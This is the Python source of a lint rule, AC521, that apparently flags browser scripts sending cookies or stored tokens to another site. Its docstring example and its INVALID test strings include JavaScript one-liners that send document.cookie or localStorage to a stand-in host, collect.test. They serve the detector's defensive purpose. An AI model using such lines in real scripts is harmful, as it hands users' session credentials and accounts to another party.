"""AC521 foreign-credentials

## What it does
Refuses two things: a value read from cookies or storage that goes into a request to another site, and a request to
another site that carries the user's cookies of that site. Hosts with the same registrable domain are one site. One
named item of the storage that goes into the headers of a request to a literal host is how many sites talk to their own
API under another name: such an adapter is held, not refused.

## Why it matters
The script runs in the user's session. A cookie or token that leaves its site is an account given away, and an adapter
of one site has no business in the user's account at another.

## Example
    fetch('https://collect.test/?c=' + encodeURIComponent(document.cookie))
Use instead: nothing; what a site stores stays on the site.

## Fix safety
There is no automatic fix. Where the other host only serves public data, `credentials: 'omit'` is right.
"""

from __future__ import annotations

from adapterc.spec.diagnostics import Sink
from adapterc.spec.expr import Template
from adapterc.spec.ir import AdapterIR, Evaluate, Request
from adapterc.spec.span import Span
from adapterc.syntax.sites import same_site
from adapterc.whitelist.analysis.pieces import constants
from adapterc.whitelist.analysis.requests import Sent, option, requests
from adapterc.whitelist.analysis.scripts import Body, bodies
from adapterc.whitelist.analysis.taint import Taint
from adapterc.whitelist.analysis.targets import target_of
from adapterc.whitelist.profiles import Profile

__all__ = ["CODE", "INVALID", "VALID", "check"]

CODE = "AC521"
VALID = (
    "fetch('https://shop-api.test/me', { headers: { token: localStorage.getItem('t') } })",
    "fetch('https://api.shop.test/me', { headers: { 'X-CSRF': document.cookie }, credentials: 'include' })",
    "fetch('/me', { headers: { 'X-CSRF': localStorage.getItem('t') } })",
    "fetch('https://cdn.other.test/list.json')",
    "const seen = document.cookie; fetch('https://cdn.other.test/list.json', { credentials: 'omit' }); seen",
)
INVALID = (
    (
        "fetch('https://collect.test/?c=' + encodeURIComponent(document.cookie))",
        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
    (
        "const read = () => localStorage.getItem('t');\n"
        "const token = read(); const send = (t) => fetch('https://collect.test/', { method: 'POST', body: t });\n"
        "send(token)",
        "2:49 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
    (
        "fetch('https://bank.test/me', { credentials: 'include' })",
        "1:7 the user's cookies of `bank.test` are sent from a page of `shop.test`",
    ),
    (
        "fetch('https://collect.test/', { headers: { all: JSON.stringify(localStorage) } })",
        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
    (
        "fetch('https://collect.test/', { headers: { token: document.cookie } })",
        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
    (
        "fetch('https://collect.test/?t=' + localStorage.getItem('t'), { headers: { t: localStorage.getItem('t') } })",
        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
    (
        "const x = new XMLHttpRequest(); x.open('POST', 'https://collect.test/'); x.send(document.cookie)",
        "1:48 what `shop.test` keeps for the user is sent to `collect.test`",
    ),
)

_STEP_HELP = "let the adapter run without a page: `browser: false`, and no `navigate`"
"""A `fetch` step has no `credentials` of its own: it sends none when the adapter uses no page."""


def check(ir: AdapterIR, profile: Profile, sink: Sink, /) -> None:
    """Report credentials that leave their site."""
    home = (ir.entry.host or ir.entry.domain) if ir.entry is not None else ir.domain
    if not home:
        return
    for body in bodies(ir):
        taint: Taint | None = None
        for sent in requests(body):
            foreign = sorted({t.host for t in sent.targets if t.kind == "host" and not same_site(t.host, home)})
            if not foreign:
                continue
            taint = taint or Taint(body)
            span = body.script.span(sent.url)
            if taint.is_token(sent):
                continue  # held by `infer_effects`: a person has to know that this host is the site's own
            if taint.reaches(sent):
                message = f"what `{home}` keeps for the user is sent to `{foreign[0]}`"
                sink.report(CODE, message, span, help="leave it out: what a site stores stays on the site")
            elif _includes(body, sent):
                _report_cookies(foreign[0], home, span, "send `credentials: 'omit'`", sink)
    for step in ir.steps:
        if isinstance(step, Evaluate) and isinstance(step.action, Request) and step.action.credentials == "include":
            url = step.action.url
            first = url.parts[0] if isinstance(url, Template) and url.parts else getattr(url, "value", "")
            target = target_of((first, "/")) if isinstance(first, str) else None
            if target is not None and target.kind == "host" and not same_site(target.host, home):
                place = url.text.span if isinstance(url, Template) else getattr(url, "span", step.span)
                _report_cookies(target.host, home, place, _STEP_HELP, sink)


def _report_cookies(host: str, home: str, span: Span, instead: str, sink: Sink) -> None:
    sink.report(
        CODE,
        f"the user's cookies of `{host}` are sent from a page of `{home}`",
        span,
        help=f"open a page of `{host}` instead, or {instead}",
    )


def _includes(body: Body, sent: Sent) -> bool:
    """Credentials that are not written out may be `include`."""
    if sent.xhr:
        return sent.credentials == "include"
    for state, node in option(body, sent.options, "credentials"):
        texts = None if node is None else constants(body.values.pieces(node))
        if state != "absent" and (not texts or "include" in texts):
            return True
    return False
